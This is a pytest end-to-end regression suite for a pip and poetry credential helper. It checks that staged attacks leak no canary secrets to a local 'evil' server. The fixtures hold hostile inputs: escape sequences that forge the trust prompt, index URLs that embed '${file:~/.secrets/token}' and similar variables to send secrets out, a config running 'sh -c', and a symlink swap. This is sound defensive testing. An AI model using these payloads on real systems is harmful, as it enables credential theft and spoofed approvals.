"""The attacks on trust (branch attack1, attacks/) as regressions, each against the real
client where the secret left: plain pip through the backend, pip-private, poetry with the
plugin, `private-packages run`. The victim (tests/victim.py) holds the canaries
(env, a file under HOME, a keyrings.alt item, a Vault token and secret); after each
attack the evil server saw none of them in any form, and no output carries them.

1. escape sequences in project text redraw `trust`'s question: `trust` refuses (exit 2, one
   line), every line that quotes the project shows `\\x1b`, never ESC;
2. a relative XDG_CONFIG_HOME or an empty HOME made the project's `.config` the user file;
3. `poetry publish -r NAME` passed a project source's URL off as the user's repository;
4. a checkout inside an approved project used the parent's approval;
5. `doctor` and `pin` sent the credential an untrusted requirements file chose;
6. a lower-case `${https_proxy}` rendered in an untrusted file (pip never expands it);
7. an approved `${file:RELATIVE}` followed a symlink a later pull put there;
8. a FIFO at trust.json hung every client.
Unit tests of each root cause: tests/unit/test_printable.py, test_user_dirs.py,
test_location_trust.py, test_confined.py, test_trust.py.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from support.wheels import build_wheel
from tests.conftest import make_canary
from tests.poetry_env import poetry_for
from tests.venvs import locked_venv
from tests.victim import Victim

pytestmark = [pytest.mark.e2e, pytest.mark.usefixtures("fresh_vault_cache")]

ESC = "\x1b"


def spoofing_pyproject(evil: str) -> str:
    """The attacker's page: clear the screen, draw an innocent question, hide the rest."""
    fake = ("\\u001b[2J\\u001b[H$ pip-private trust\\r\\nIt would send:\\r\\n  ${CI_JOB_TOKEN} "
            "to https://gitlab.example.com/api/v4/groups/12\\r\\n\\u001b[?7l\\u001b[999C")
    return f"""\
[project]
name = "victim-app"
version = "0.1.0"

[tool.poetry]
package-mode = false

[[tool.private-packages.credentials]]
url = "{evil}/file"
username = "u"
password = "${{file:~/.secrets/token}}"

[[tool.private-packages.credentials]]
url = "{evil}/vault"
username = "u"
password = "${{vault:secret/ci/pypi#token}}"

[tool.private-packages.vault]
addr = "{evil}"
auth = "token"
role = "{fake}"
"""


def no_raw_escapes(text: str) -> None:
    assert ESC not in text and "\x9b" not in text and "\r" not in text, repr(text[:300])


@pytest.mark.parametrize("client", ["pip-private trust", "poetry source trust"])
def test_escape_sequences_cannot_forge_the_approval(victim: Victim, poetry_vault_bin: Path,
                                                    client: str) -> None:
    (victim.project / "pyproject.toml").write_text(spoofing_pyproject(victim.evil.url))
    (victim.project / "requirements.txt").write_text(
        f"--index-url {victim.evil.url}/file/simple/\n"
        f"--extra-index-url {victim.evil.url}/vault/simple/\nacme-internal\n")
    if client == "pip-private trust":
        result = victim.run(str(victim.bin / "pip-private"), "trust", input="y\n")
    else:
        poetry = poetry_for(poetry_vault_bin, victim.env, victim.home)
        result = poetry.run("source", "trust", cwd=victim.project, input="y\n", check=False)
        victim.outputs.update(poetry.outputs)
    shown = result.stdout + result.stderr
    assert result.returncode == 2, shown
    assert "[y/N]" not in shown and "Trusted" not in shown  # never asked
    [line] = [line for line in shown.splitlines() if "nothing was approved" in line]
    assert "tool.private-packages.vault.role holds \\x1b" in line
    no_raw_escapes(shown)
    # Every other client that quotes the project: pip's warning through the backend,
    # pip-private's, and private-packages run's one untrusted line.
    pip = victim.pip()
    assert "is not trusted" in pip.stderr and "\\x1b[2J" in pip.stderr
    for argv in ([str(victim.bin / "pip-private"), "install", "--no-cache-dir", "--target",
                  str(victim.home / "t2"), "-r", "requirements.txt"],
                 [str(victim.bin / "private-packages"), "run", "--", "python", "-c", "pass"]):
        ran = victim.run(*argv)
        assert "is not trusted" in ran.stderr, ran.stderr
        no_raw_escapes(ran.stdout + ran.stderr)
    no_raw_escapes(pip.stderr)
    assert victim.leaked() == {}
    assert not any(r.vault_token for r in victim.evil.requests)
    victim.assert_outputs_clean()


@pytest.mark.parametrize("client", ["pip", "pip-private"])
@pytest.mark.parametrize("variable", ["XDG_CONFIG_HOME", "HOME"])
def test_a_relative_config_home_never_makes_the_projects_file_yours(
        victim: Victim, tmp_path: Path, variable: str, client: str) -> None:
    evil, project = victim.evil, victim.project
    (project / "pyproject.toml").unlink()  # nothing to trust or refuse
    marker = tmp_path / "command-ran"
    config = project / ".config" / "private-packages"
    config.mkdir(parents=True)
    (config / "config.toml").write_text(f"""\
[[credentials]]
url = "{evil.url}/file"
username = "u"
password = "${{file:{victim.home / '.secrets' / 'token'}}}"

[[credentials]]
url = "{evil.url}/cmd"
username = "u"
password = "${{cmd:pwn}}"

[commands.pwn]
run = ["sh", "-c", "touch {marker}; echo cmd-output"]
""")
    (project / "requirements.txt").write_text(
        f"--index-url {evil.url}/file/simple/\n--extra-index-url {evil.url}/cmd/simple/\n"
        "acme-internal\n")
    extra = {"XDG_CONFIG_HOME": ".config"} if variable == "XDG_CONFIG_HOME" else {
        "HOME": "", "XDG_CONFIG_HOME": ""}
    if client == "pip":
        victim.pip(extra=extra)
    else:
        victim.run(str(victim.bin / "pip-private"), "install", "--no-cache-dir", "--target",
                   str(tmp_path / "t"), "-r", "requirements.txt", extra=extra)
    assert evil.requests, "the client never asked the evil index"
    assert not marker.exists(), "the project's command ran"
    assert victim.leaked() == {}
    victim.assert_outputs_clean()


def publishing_project(project: Path, evil: str) -> None:
    (project / "pyproject.toml").write_text(f"""\
[project]
name = "victim-lib"
version = "1.0"
requires-python = ">=3.9"

[tool.poetry]
packages = [{{include = "victim_lib"}}]

[[tool.poetry.source]]
name = "corp"
url = "{evil}/corp/simple/"
priority = "supplemental"
""")
    (project / "victim_lib").mkdir()
    (project / "victim_lib" / "__init__.py").write_text("")
    build_wheel(project / "dist", "victim-lib", "1.0")  # shipped, ready to publish


#: The victim's own shell: an env rule bound by source name to *their* "corp".
CORP_RULE = {"PRIVATE_PACKAGES_CORP_SOURCE": "corp", "PRIVATE_PACKAGES_CORP_USERNAME": "u",
             "PRIVATE_PACKAGES_CORP_PASSWORD": "${VICTIM_TOKEN}"}


@pytest.mark.parametrize("args", [("publish", "-r", "corp"),
                                  ("source", "bump", "corp", "patch", "--dry-run")],
                         ids=["publish", "bump"])
def test_publish_never_takes_a_project_source_for_your_repository(
        victim: Victim, poetry_vault_bin: Path, args: tuple[str, ...]) -> None:
    publishing_project(victim.project, victim.evil.url)
    poetry = poetry_for(poetry_vault_bin, victim.env, victim.home)
    result = poetry.run(*args, cwd=victim.project, env=CORP_RULE, check=False)
    victim.outputs.update(poetry.outputs)
    assert victim.evil.requests, result.stdout + result.stderr
    assert victim.leaked() == {}, result.stdout + result.stderr
    victim.assert_outputs_clean()


@pytest.mark.clients
def test_publish_through_run_with_poetry_alone(victim: Victim,
                                               tmp_path_factory: pytest.TempPathFactory) -> None:
    """`private-packages run poetry publish -r corp`, poetry without the plugin: run plans
    from the project's source URL, for which no rule of yours answers."""
    poetry_alone = locked_venv(tmp_path_factory, "run-poetry")
    publishing_project(victim.project, victim.evil.url)
    home = victim.home
    env = {**CORP_RULE, "PATH": f"{poetry_alone}:{victim.env['PATH']}",
           "POETRY_CONFIG_DIR": str(home / "poetry-config"),
           "POETRY_CACHE_DIR": str(home / "poetry-cache"),
           "POETRY_DATA_DIR": str(home / "poetry-data")}
    printed = victim.run(str(victim.bin / "private-packages"), "run", "--print-env", "--",
                         "poetry", "publish", "-r", "corp", extra=env)
    assert "POETRY_HTTP_BASIC_CORP" not in printed.stdout, printed.stdout
    result = victim.run(str(victim.bin / "private-packages"), "run", "--", "poetry",
                        "publish", "-r", "corp", "-n", extra=env)
    assert victim.evil.requests, result.stdout + result.stderr
    assert victim.leaked() == {}
    victim.assert_outputs_clean()


def test_a_checkout_inside_an_approved_project_is_not_approved(victim: Victim,
                                                               tmp_path: Path) -> None:
    evil = victim.evil
    mine = tmp_path / "work" / "acme-app"
    mine.mkdir(parents=True)
    (mine / "pyproject.toml").write_text('[project]\nname = "acme-app"\nversion = "1"\n')
    assert victim.run(str(victim.bin / "pip-private"), "trust", "--yes",
                      cwd=mine).returncode == 0
    child = mine / "third_party" / "tools"  # `git clone https://evil/tools` (or a submodule)
    (child / ".git").mkdir(parents=True)
    (child / "requirements.txt").write_text(
        f"--index-url {evil.url.replace('://', '://u:${file:~/.secrets/token}@')}/r/simple/\n"
        "acme-internal\n")
    result = victim.run(str(victim.bin / "pip-private"), "install", "--no-cache-dir",
                        "--target", str(tmp_path / "t"), "-r", "requirements.txt", cwd=child)
    assert result.returncode == 2 and f"pip-private trust {child}" in result.stderr
    assert victim.leaked() == {}
    victim.assert_outputs_clean()


@pytest.mark.parametrize("verb", [("doctor", "--timeout", "5"), ("render",), ("pin",)])
def test_inspection_never_sends_what_an_untrusted_file_chose(victim: Victim,
                                                             verb: tuple[str, ...]) -> None:
    evil = victim.evil
    userinfo = evil.url.replace("://", "://u:${VICTIM_TOKEN}@")
    (victim.project / "requirements.txt").write_text(
        f"tool @ git+{userinfo}/env/tool.git@main\n" if verb[0] == "pin" else
        f"--index-url {userinfo}/env/simple/\nacme-internal\n")
    result = victim.run(str(victim.bin / "pip-private"), *verb, "-r", "requirements.txt")
    out = result.stdout + result.stderr
    if verb[0] != "render":
        assert evil.requests, out  # it asked, anonymously
        assert "anonymous" in out, out
    assert victim.leaked() == {}, out
    victim.assert_outputs_clean()


def test_a_lower_case_variable_is_no_pip_parity(victim: Victim, tmp_path: Path) -> None:
    proxy = f"http://me:{make_canary('proxy')}@proxy.corp.example:3128"
    victim.canaries["https_proxy"] = proxy
    env = {"https_proxy": proxy, "no_proxy": "127.0.0.1"}
    (victim.project / "pyproject.toml").unlink()  # a requirements-only clone, untrusted
    (victim.project / "requirements.txt").write_text(
        f"--index-url {victim.evil.url.replace('://', '://u:${https_proxy}@')}/p/simple/\n"
        "acme-internal\n")
    result = victim.run(str(victim.bin / "pip-private"), "download", "--no-cache-dir", "-d",
                        str(tmp_path / "d"), "-r", "requirements.txt", extra=env)
    assert result.returncode == 2 and "${https_proxy} is not resolved" in result.stderr
    assert victim.leaked() == {}
    victim.assert_outputs_clean()


def test_an_approved_relative_file_never_follows_a_later_symlink(victim: Victim) -> None:
    evil, project = victim.evil, victim.project
    (project / "pyproject.toml").write_text(
        '[project]\nname = "victim-app"\nversion = "0.1.0"\n\n'
        f'[[tool.private-packages.credentials]]\nurl = "{evil.url}/file"\nusername = "u"\n'
        'password = "${file:ci/public-read-token}"\n')
    token = project / "ci" / "public-read-token"
    token.parent.mkdir()
    token.write_text("the-projects-own-public-token\n")
    (project / "requirements.txt").write_text(f"--index-url {evil.url}/file/simple/\nacme\n")
    assert victim.run(str(victim.bin / "pip-private"), "trust", "--yes").returncode == 0
    victim.pip()
    assert evil.saw("the-projects-own-public-token", "u")  # approved: its own file goes
    token.unlink()  # `git pull`: a symlink; pyproject.toml and its digest unchanged
    os.symlink(os.path.relpath(victim.home / ".secrets" / "token", token.parent), token)
    evil.clear()
    result = victim.pip()
    assert "lies outside the project" in result.stderr, result.stderr
    assert victim.leaked() == {}
    victim.assert_outputs_clean()


def test_a_fifo_state_file_hangs_nothing(victim: Victim, tmp_path: Path) -> None:
    state = victim.home / ".local" / "state" / "private-packages" / "trust.json"
    state.parent.mkdir(parents=True)
    os.mkfifo(state, 0o600)
    result = subprocess.run(  # a generous "did not hang": pip needs about 2 s here
        [str(victim.bin / "python"), "-m", "pip", "install", "--no-cache-dir", "--no-input",
         "--keyring-provider", "import", "--target", str(tmp_path / "t"), "-r",
         "requirements.txt"], cwd=victim.project, env=victim.env, capture_output=True,
        text=True, timeout=120, check=False)
    assert "is a FIFO" in result.stderr and "Traceback" not in result.stderr, result.stderr
    assert victim.evil.requests and victim.leaked() == {}
